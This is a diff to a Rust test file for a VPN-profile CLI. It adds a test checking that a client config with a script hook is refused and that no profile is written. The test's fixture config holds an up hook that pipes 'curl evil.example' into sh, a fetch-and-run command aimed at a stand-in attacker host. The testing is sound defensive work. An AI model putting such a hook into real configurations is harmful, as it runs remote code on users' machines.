@@ -56,3 +56,86 @@ fn show_without_with_key_prints_no_secret_block_of_the_profile() {
     with_key.assert_code(0);
     assert!(with_key.stdout.contains("PKCS12SECRET") && with_key.stdout.contains("THEPRIVATEKEY"));
 }
+
+const HOSTILE_CONFIG: &str = "client\ndev tun\nremote 47.1.2.3 1194\nscript-security 2\nup \"/bin/sh -c 'curl evil.example | sh'\"\nverb 3\n";
+
+fn created(name: &str) -> String {
+    format!(r#"{{"RequestId":"R-create","Name":"{name}","SslVpnClientCertId":"{CERT}"}}"#)
+}
+
+/// Every file under `dir`, as paths relative to it.
+fn files_under(dir: &std::path::Path) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                out.push(p.strip_prefix(dir).unwrap().display().to_string());
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+#[test]
+fn a_profile_that_would_run_a_program_is_refused_and_nothing_is_written() {
+    let api = Hostile::start(&[
+        ("CreateSslVpnClientCert", created("alice")),
+        (
+            "DescribeSslVpnClientCert",
+            bundle_json(CERT, SERVER, "alice", HOSTILE_CONFIG),
+        ),
+    ]);
+    let sb = Sandbox::new();
+    std::fs::write(sb.join("people.txt"), "alice\n").unwrap();
+    let before = files_under(sb.path());
+
+    let issue = run(sb
+        .cli(&api.url)
+        .args(["issue", "--server", SERVER, "--name", "alice"]));
+    issue.assert_code(1);
+    for want in [
+        "ClientConfig",
+        "line 4",
+        "`script-security`",
+        CERT,
+        "no profile was written",
+    ] {
+        assert!(
+            issue.stderr.contains(want),
+            "{want:?} missing from {}",
+            issue.stderr
+        );
+    }
+
+    let show = run(sb.cli(&api.url).args(["show", CERT, "--out", "alice.ovpn"]));
+    show.assert_code(1);
+    assert!(show.stderr.contains("ClientConfig"), "{}", show.stderr);
+
+    let bulk = run(sb.cli(&api.url).args([
+        "--output",
+        "json",
+        "issue",
+        "--server",
+        SERVER,
+        "--names-from",
+        "people.txt",
+        "--out-dir",
+        "profiles",
+    ]));
+    bulk.assert_code(1);
+    let s = bulk.json();
+    assert_eq!(s["results"][0]["result"], "failed", "{s}");
+    assert!(s["results"][0]["error"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("ClientConfig"));
+
+    let mut after = files_under(sb.path());
+    after.retain(|f| !before.contains(f));
+    assert!(after.is_empty(), "nothing written: {after:?}");
+}
